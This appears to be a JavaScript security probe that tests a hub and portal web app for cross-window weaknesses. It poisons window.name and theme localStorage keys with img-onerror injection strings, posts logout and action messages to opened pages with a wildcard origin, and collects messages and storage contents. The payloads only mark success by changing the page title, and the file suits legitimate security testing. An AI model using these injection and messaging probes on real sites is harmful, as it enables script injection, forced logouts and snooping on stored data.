// Speaks to pages of hub and portal by window.name, postMessage, channels and storage, and listens.
({
    got: [],
    async begin({ shown }) {
        addEventListener("message", (event) => this.got.push(event.data));
        addEventListener("storage", (event) => this.got.push([event.key, event.newValue]));
        this.channels = ["visa", "jupyterhub", "portal", "notices", "changes", "theme"].map((name) => new BroadcastChannel(name));
        for (const channel of this.channels) channel.onmessage = (event) => this.got.push(event.data);
        window.name = "<img src=x onerror=\"document.title='stolen'\">";
        const poison = "\"><img src=x onerror=\"document.title='stolen'\">";
        for (const name of ["theme", "jupyterhub-bs-theme", "visa-theme"]) localStorage.setItem(name, poison);
        for (const address of shown.slice(0, 3)) {
            const one = open(address, `${window.name} `); // its own name is its own window
            for (const name of ["visa", "act", "start", "logout"]) one?.postMessage({ type: name, action: name }, "*");
        }
    },
    async look() {
        for (const channel of this.channels) channel.postMessage({ action: "logout" });
        const kept = Object.entries(localStorage).filter(([, value]) => !value.includes("onerror"));
        localStorage.clear();
        return [this.got, kept, Object.entries(sessionStorage), (await indexedDB.databases()).map((one) => one.name)];
    },
})
